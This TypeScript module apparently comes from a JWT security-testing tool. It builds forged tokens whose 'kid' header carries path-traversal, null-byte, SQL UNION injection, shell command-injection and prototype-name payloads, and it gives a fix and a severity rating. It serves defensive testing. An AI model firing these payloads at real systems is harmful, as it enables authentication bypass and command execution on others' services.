/** T7: a `kid` that is a path, a query or no string at all (RFC 8725 section 3.10). */
import type { Attack } from '../attack.ts';
import { forge, hmacSigner } from '../forge.ts';
import { tokenProbe } from '../probes.ts';

const UP = '../'.repeat(12);
const PLANTED = 'sealgate-attack';

/** A kid, and the secret that a careless look-up of it would give. */
const LOOKUPS: readonly (readonly [name: string, kid: unknown, secret: string])[] = [
  ['a path to an empty file', `${UP}dev/null`, ''],
  ['an absolute path to an empty file', '/dev/null', ''],
  ['a path that ends before the suffix', `${UP}dev/null\u0000`, ''],
  ['a path to a file of known content', `${UP}proc/sys/kernel/randomize_va_space`, '2\n'],
  ['a file URL', 'file:///dev/null', ''],
  ['SQL that answers with a row of its own', `x' UNION SELECT '${PLANTED}' -- `, PLANTED],
  ['SQL in double quotes', `x" UNION SELECT "${PLANTED}" -- `, PLANTED],
  ['a shell command', `x;echo -n ${PLANTED}`, PLANTED],
  ['a shell substitution', `$(echo -n ${PLANTED})`, PLANTED],
  ['an object', {}, ''],
  ['a list', [], ''],
  ['a number', 0, ''],
  ['an empty string', '', ''],
  ['"__proto__"', '__proto__', ''],
  ['"constructor"', 'constructor', ''],
  ['"toString", whose source is known', 'toString', 'function toString() { [native code] }'],
  ['10 KB', 'k'.repeat(7000), ''],
];

export const kid: Attack = {
  id: 'T7',
  title: 'key id that is a path, a query or no string',
  why: 'The attacker chooses what the API takes for its key, or runs a query or a command of their own.',
  mend: 'Look the kid up in a map of loaded keys; refuse one that is no short string of a bounded alphabet.',
  severity: 'critical',
  forges: true,
  probes: ({ subject }) =>
    LOOKUPS.map(([name, value, secret]) =>
      tokenProbe(
        `kid: ${name}`,
        forge({ ...subject.header, alg: 'HS256', kid: value }, subject.claims, hmacSigner('HS256', secret)),
      ),
    ),
};
